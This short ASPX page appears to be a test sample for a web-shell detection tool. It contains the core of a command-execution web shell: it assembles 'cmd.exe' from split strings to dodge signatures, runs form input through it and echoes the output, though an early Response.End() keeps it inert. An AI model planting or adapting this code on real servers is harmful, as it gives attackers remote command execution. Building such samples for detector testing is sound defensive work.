<%@ Page Language="C#" %>
<%-- shellsweep test sample: inert, never functional --%>
<% Response.End(); %>
<script runat="server">
string Run(string c) {
  ProcessStartInfo psi = new ProcessStartInfo();
  psi.FileName = "c" + "m" + "d" + ".e" + "xe"; psi.Arguments = "/c " + c;
  psi.RedirectStandardOutput = true; psi.UseShellExecute = false;
  return Process.Start(psi).StandardOutput.ReadToEnd();
}
void Go(object s, EventArgs e) { Response.Write(Server.HtmlEncode(this.Run(txtC.Text))); }
</script>
